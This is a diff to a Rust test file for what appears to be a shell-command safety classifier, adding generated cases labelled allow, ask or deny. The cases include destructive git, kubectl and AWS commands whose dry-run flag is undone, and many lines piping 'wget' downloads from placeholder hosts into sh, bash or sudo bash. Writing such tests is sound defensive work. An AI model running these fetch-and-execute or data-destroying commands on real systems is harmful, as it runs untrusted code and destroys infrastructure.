@@ -151,6 +151,9 @@ const FLOORS: &[(&str, f64)] = &[
     ("benign-h-cmd16", 99.0),
     ("benign-h-ben16", 99.0),
     ("ben16-neighbours", 99.0),
+    ("undone-dry-run", 99.0),
+    ("plain-wget-exec", 99.0),
+    ("benign-h-cmd17", 99.0),
 ];
 
 fn rank(d: &str) -> u8 {
@@ -4117,6 +4120,129 @@ fn h_cmd16_benign() -> Vec<Base> {
     .collect()
 }
 
+// --- h-cmd17: classes from set 14's misses ---------------------------------------------------
+// Principle: of a dry run and its undoing the later word counts (git's negated booleans, the
+// AWS CLI's `--no-dry-run`, kubectl's `--dry-run=none`), so a destroying command whose dry run
+// is undone acts; a plain `wget URL` piped or substituted into an interpreter is remote code
+// (wgetrc may send the document to standard output).
+
+fn undone_dry_runs() -> Vec<Base> {
+    let mut out = Vec::new();
+    for (cmd, dry, undo) in [
+        (
+            "git push {D} --force origin main",
+            &["-n", "--dry-run"][..],
+            &["--no-dry-run"][..],
+        ),
+        (
+            "git push {D} origin +main",
+            &["-n", "--dry-run"],
+            &["--no-dry-run"],
+        ),
+        ("git clean {D} -fd", &["-n", "--dry-run"], &["--no-dry-run"]),
+        (
+            "git clean -f {D} -x",
+            &["-n", "--dry-run"],
+            &["--no-dry-run"],
+        ),
+        (
+            "kubectl delete deploy web -n prod {D}",
+            &["--dry-run=client", "--dry-run=server", "--dry-run"],
+            &["--dry-run=none", "--dry-run=false"],
+        ),
+        (
+            "kubectl delete ns staging {D}",
+            &["--dry-run=client", "--dry-run=server"],
+            &["--dry-run=none"],
+        ),
+        (
+            "aws ec2 terminate-instances --instance-ids i-0abc {D}",
+            &["--dry-run"],
+            &["--no-dry-run"],
+        ),
+        (
+            "aws rds delete-db-instance --db-instance-identifier db1 {D}",
+            &["--dry-run"],
+            &["--no-dry-run"],
+        ),
+    ] {
+        for d in dry {
+            for u in undo {
+                out.push(b(
+                    "undone-dry-run",
+                    "ask",
+                    cmd.replace("{D}", &format!("{d} {u}")),
+                ));
+            }
+        }
+    }
+    for c in [
+        "git push --signed origin +main",
+        "git push --signed=if-asked origin +main",
+        "git push --signed --force origin main",
+    ] {
+        out.push(b("undone-dry-run", "ask", c.to_string()));
+    }
+    out
+}
+
+fn plain_wget_into_interpreters() -> Vec<Base> {
+    let mut out = Vec::new();
+    for w in [
+        "wget",
+        "wget -q",
+        "wget -nv",
+        "wget --no-verbose",
+        "wget --quiet",
+    ] {
+        for u in ["https://203.0.113.5/install", "http://example.test/x.sh"] {
+            for i in [
+                "sh",
+                "bash",
+                "zsh",
+                "sudo bash",
+                "python3",
+                "node",
+                "ruby",
+                "perl",
+            ] {
+                out.push(b("plain-wget-exec", "deny", format!("{w} {u} | {i}")));
+            }
+            for i in ["sh", "bash", "source"] {
+                out.push(b("plain-wget-exec", "deny", format!("{i} <({w} {u})")));
+            }
+        }
+    }
+    out
+}
+
+fn h_cmd17_benign() -> Vec<Base> {
+    [
+        // dry runs that stay dry, and undoings with nothing destructive
+        "git push --no-dry-run --dry-run --force origin main",
+        "git push -n origin +main",
+        "git clean -fdn",
+        "git clean --no-dry-run -n -fd",
+        "git push --signed origin main",
+        "git push --signed=if-asked origin feature/x",
+        "kubectl delete deploy web --dry-run=none --dry-run=client",
+        "kubectl apply -f deploy.yaml --dry-run=none",
+        "kubectl get pods --dry-run=none",
+        "aws ec2 terminate-instances --instance-ids i-0abc --no-dry-run --dry-run",
+        "aws ec2 describe-instances --no-dry-run",
+        // wget that saves, checks or pipes into readers
+        "wget https://example.test/file.tar.gz",
+        "wget -q https://example.test/a.tgz && tar xzf a.tgz",
+        "wget -q https://example.test/sums.txt | tee sums.log",
+        "wget --spider https://example.test/",
+        "wget -q -O app.zip https://example.test/app.zip",
+        "wget -r -np https://example.test/docs/",
+    ]
+    .into_iter()
+    .map(|c| b("benign-h-cmd17", "allow", c.to_string()))
+    .collect()
+}
+
 fn squote(s: &str) -> String {
     format!("'{}'", s.replace('\'', r"'\''"))
 }
@@ -4328,6 +4454,9 @@ fn generated_class_variants_get_their_decision() {
         h_cmd16_benign(),
         h_ben16_benign(),
         h_ben16_neighbours(),
+        undone_dry_runs(),
+        plain_wget_into_interpreters(),
+        h_cmd17_benign(),
     ]
     .into_iter()
     .flatten()
